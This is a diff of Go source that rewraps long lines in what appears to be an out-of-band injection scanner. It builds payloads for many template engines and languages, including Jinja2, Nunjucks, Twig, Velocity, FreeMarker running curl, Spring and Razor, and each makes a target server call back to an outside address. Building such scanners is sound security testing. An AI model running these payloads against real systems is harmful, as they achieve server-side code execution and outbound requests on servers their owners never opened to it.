@@ -59,7 +59,8 @@ func pythonText(text string) string {
 func node(address string) string {
 	literal := func(s string) string { return "/" + strings.ReplaceAll(s, "/", `\/`) + "/.source" }
 	at := literal(address)
-	return "(g=>g.fetch?g.fetch(" + at + ").catch(x=>x):g.process.mainModule.require(/http/.source).get(" + at + ").on(/error/.source,x=>x))" +
+	return "(g=>g.fetch?g.fetch(" + at + ").catch(x=>x):g.process.mainModule.require(/http/.source).get(" + at +
+		").on(/error/.source,x=>x))" +
 		"((this&&this.constructor||Object).constructor(/return this/.source)())"
 }
 
@@ -82,7 +83,8 @@ func php(address string) string {
 // java is an expression of Java that most of its expression languages take as well.
 func java(quote string) call {
 	return func(address string) string {
-		return "new java.net.URL(" + quote + address[:cut] + quote + "+" + quote + address[cut:] + quote + ").openStream()"
+		return "new java.net.URL(" + quote + address[:cut] + quote + "+" + quote + address[cut:] + quote +
+			").openStream()"
 	}
 }
 
@@ -92,8 +94,10 @@ func java(quote string) call {
 //	C+'+C+'+"+C+"
 func anywhere(c call, join string) func(string, func() attack.Bait) (string, []part) {
 	return func(value string, bait func() attack.Bait) (string, []part) {
-		parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}, {bait(), "behind a string in double quotes"}}
-		text := c(parts[0].bait.Named()) + join + "'" + join + c(parts[1].bait.Named()) + join + "'" + join + `"` + join + c(parts[2].bait.Named()) + join + `"`
+		parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}, {bait(), "behind a string in " +
+			"double quotes"}}
+		text := c(parts[0].bait.Named()) + join + "'" + join + c(parts[1].bait.Named()) + join + "'" + join + `"` +
+			join + c(parts[2].bait.Named()) + join + `"`
 		if strings.Contains(value, ";") { // statements
 			text += ";"
 		}
@@ -152,19 +156,25 @@ var payloads = []payload{
 	{languages: "java", write: quoted},
 	{languages: "java", write: doubly},
 	{languages: "python ruby", template: true, write: tags(
-		tag{"Jinja2", "{{", "}}", in(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
+		tag{"Jinja2", "{{", "}}",
+			in(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
 		tag{"Mako, Chameleon", "${", "}", python}, tag{"Slim, Haml", "#{", "}", ruby})},
 	{languages: "node", template: true, write: tags(
 		tag{"Nunjucks", "{{", "}}", func(a string) string {
 			return `range.constructor("return ` + strings.ReplaceAll(node(a), `\`, `\\`) + `")()`
 		}},
-		tag{"EJS, Eta, lodash", "<%=", "%>", node}, tag{"strings of JavaScript, lodash", "${", "}", node}, tag{"Pug", "#{", "}", node})},
+		tag{"EJS, Eta, lodash", "<%=", "%>", node}, tag{"strings of JavaScript, lodash", "${", "}", node},
+		tag{"Pug", "#{", "}", node})},
 	{languages: "php ruby java", template: true, write: tags(
 		tag{"Twig", "{{", "}}", in(`['HEAD'~'TAIL']|map('file_get_contents')|join`)}, tag{"ERB", "<%=", "%>", ruby},
-		tag{"Velocity", "#set($e='')", "", in(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
+		tag{"Velocity", "#set($e='')", "",
+			in(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
 		tag{"FreeMarker", "${", "}", in(`'freemarker.template.utility.Execute'?new()('curl -m 3 HEAD'+'TAIL')`)})},
 	{languages: "python java", template: true, write: tags(
-		tag{"Tornado", "{{", "}}", python}, tag{"MVEL", "@{", "}", java("'")}, tag{"Groovy, expressions of JSP, Thymeleaf", "${", "}", java("'")}, tag{"Spring", "#{", "}", java("'")})},
-	{languages: "php perl", template: true, write: tags(tag{"Smarty", "{", "}", in(`fetch file="HEAD{''}TAIL"`)}, tag{"Mojolicious", "<%=", "%>", perl})},
-	{languages: "dotnet", template: true, write: tags(tag{"Razor", "@(", ")", in(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
+		tag{"Tornado", "{{", "}}", python}, tag{"MVEL", "@{", "}", java("'")}, tag{"Groovy, expressions of JSP, " +
+			"Thymeleaf", "${", "}", java("'")}, tag{"Spring", "#{", "}", java("'")})},
+	{languages: "php perl", template: true, write: tags(tag{"Smarty", "{", "}", in(`fetch file="HEAD{''}TAIL"`)},
+		tag{"Mojolicious", "<%=", "%>", perl})},
+	{languages: "dotnet", template: true,
+		write: tags(tag{"Razor", "@(", ")", in(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
 }
